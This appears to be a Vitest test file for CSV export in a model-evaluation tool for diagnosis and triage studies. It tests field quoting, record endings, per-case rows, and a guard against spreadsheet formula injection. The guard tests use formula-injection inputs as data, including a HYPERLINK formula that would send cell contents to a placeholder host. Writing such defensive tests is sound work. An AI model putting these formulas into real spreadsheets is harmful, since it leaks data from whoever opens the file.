import { describe, expect, it } from "vitest";
import { renderCasesCsv } from "./cases-csv.ts";
import { csvField, toCsv, unguardCsvCell } from "./csv.ts";
import { smallAnalysis, smallTriageAnalysis } from "./report.test-support.ts";

describe("csvField", () => {
  it("quotes only fields with a comma, quote, CR or LF, and doubles quotes", () => {
    expect(
      ["plain", "a,b", 'say "hi"', "two\nlines", "cr\rhere", "", null, 12, 0.5, true, false].map(csvField),
    ).toEqual([
      "plain",
      '"a,b"',
      '"say ""hi"""',
      '"two\nlines"',
      '"cr\rhere"',
      "",
      "",
      "12",
      "0.5",
      "true",
      "false",
    ]);
  });
});

describe("csvField against spreadsheet formulas", () => {
  it("prefixes a single quote to text a spreadsheet would run, and leaves numbers alone", () => {
    expect(
      [
        "=1+1",
        "+x",
        "-x",
        "@SUM(A1)",
        "\tx",
        "\rx",
        '=HYPERLINK("http://h/"&A1,"y")',
        "-0.5",
        "+3",
        -3,
        1e-7,
      ].map(csvField),
    ).toEqual([
      "'=1+1",
      "'+x",
      "'-x",
      "'@SUM(A1)",
      "'\tx",
      '"\'\rx"',
      '"\'=HYPERLINK(""http://h/""&A1,""y"")"',
      "-0.5",
      "+3",
      "-3",
      "1e-7",
    ]);
  });

  it("is undone by unguardCsvCell, which leaves every other text as it is", () => {
    for (const text of ["=1+1", "+x", "-x", "@x", "\tx", "'quoted", "'", "'=x", "'-0.5", "plain", "-0.5"]) {
      const field = csvField(text);
      const cell = field.startsWith('"') ? field.slice(1, -1).replace(/""/g, '"') : field;
      expect(unguardCsvCell(cell)).toBe(text);
    }
  });
});

describe("toCsv", () => {
  it("ends every record with CRLF, the header first", () => {
    expect(
      toCsv(
        ["a", "b"],
        [
          ["x,y", null],
          [1, '"'],
        ],
      ),
    ).toBe('a,b\r\n"x,y",\r\n1,""""\r\n');
  });
});

describe("renderCasesCsv", () => {
  it("writes one row per model × case with the grade, answers, tokens, error and subgroup fields", () => {
    const { report, details } = smallAnalysis();
    expect(renderCasesCsv(report, details).split("\r\n")).toEqual([
      "model,case,sample,outcome,rung,rank,lenientRank,needsReview,answers,answerRungs,answerConcepts,referenceConcepts,reference,latencyMs,promptTokens,completionTokens,reasoningTokens,error,specialty",
      "A,c1,0,correct,exact,1,1,false,first | second | third | fourth | fifth,,,,Diagnosis of c1,100,,,,,surgery",
      "A,c2,0,correct,exact,2,2,false,first | second | third | fourth | fifth,,,,Diagnosis of c2,100,,,,,surgery",
      "A,c3,0,incorrect,,,,false,wrong one | wrong two,,,,Diagnosis of c3,100,,,,,neurology",
      "A,c4,0,error,,,,,,,,,Diagnosis of c4,,,,,http 503: Service Unavailable (after 5 attempts),neurology",
      "B,c1,0,correct,exact,3,3,false,first | second | third | fourth | fifth,,,,Diagnosis of c1,100,,,,,surgery",
      "B,c2,0,incorrect,,,,false,wrong one | wrong two,,,,Diagnosis of c2,100,,,,,surgery",
      "B,c3,0,incorrect,,,1,true,near one | near two | near three | near four,,,,Diagnosis of c3,100,,,,,neurology",
      "B,c4,0,unparseable,,,,false,,,,,Diagnosis of c4,100,,,,,neurology",
      "",
    ]);
  });

  it("quotes answers and causes that hold commas, quotes or line breaks, and renames clashing fields", () => {
    const { report, details } = smallAnalysis();
    const rows = [
      {
        ...details.rows[0],
        answers: ["Myocardial infarction, acute", 'so-called "silent" MI'],
        error: "line one\nline two",
        subgroups: { specialty: "surgery, general" },
      },
    ];
    const csv = renderCasesCsv({ ...report, study: { ...report.study, subgroups: ["specialty"] } }, { rows });
    expect(csv.split("\r\n")[1]).toBe(
      'A,c1,0,correct,exact,1,1,false,"Myocardial infarction, acute | so-called ""silent"" MI",,,,Diagnosis of c1,100,,,,"line one\nline two","surgery, general"',
    );
    const clashing = renderCasesCsv(
      { ...report, study: { ...report.study, subgroups: ["outcome"] } },
      { rows: [{ ...details.rows[0], subgroups: { outcome: "x" } }] },
    );
    expect(clashing.split("\r\n")[0].split(",").at(-1)).toBe("subgroup.outcome");
    expect(clashing.split("\r\n")[1].split(",").at(-1)).toBe("x");
  });

  it("writes each answer's rung and concept ids, and the reference's concepts", () => {
    const { report, details } = smallAnalysis();
    const rows = [
      {
        ...details.rows[0],
        answers: ["Mesenteric adenitis", "Appendicitis"],
        answerRungs: ["different", "synonym"],
        answerConcepts: [["DOID:10782"], ["DOID:8337", "clinval:appendicitis"]],
        referenceConcepts: ["DOID:8337"],
      },
    ];
    expect(renderCasesCsv(report, { rows }).split("\r\n")[1]).toBe(
      "A,c1,0,correct,exact,1,1,false,Mesenteric adenitis | Appendicitis,different | synonym,DOID:10782 | DOID:8337 + clinval:appendicitis,DOID:8337,Diagnosis of c1,100,,,,,surgery",
    );
  });
});

describe("renderCasesCsv for a triage study", () => {
  it("adds the predicted label before the reference label, empty when the answer gave none", () => {
    const { report, details } = smallTriageAnalysis();
    const lines = renderCasesCsv(report, details).split("\r\n");
    expect(lines.slice(0, 7)).toEqual([
      "model,case,sample,outcome,rung,rank,lenientRank,needsReview,answers,predicted,reference,latencyMs,promptTokens,completionTokens,reasoningTokens,error,region",
      "A,c1,0,correct,,,,,,negative,negative,100,200,8,,,chest",
      "A,c2,0,incorrect,,,,,,negative,routine,100,200,8,,,chest",
      "A,c3,0,correct,,,,,,urgent,urgent,100,200,8,,,chest",
      "A,c4,0,incorrect,,,,,,routine,negative,100,200,8,,,abdomen",
      "A,c5,0,correct,,,,,,routine,routine,100,200,8,,,abdomen",
      "A,c6,0,unparseable,,,,,,,urgent,100,200,8,,,abdomen",
    ]);
  });
});
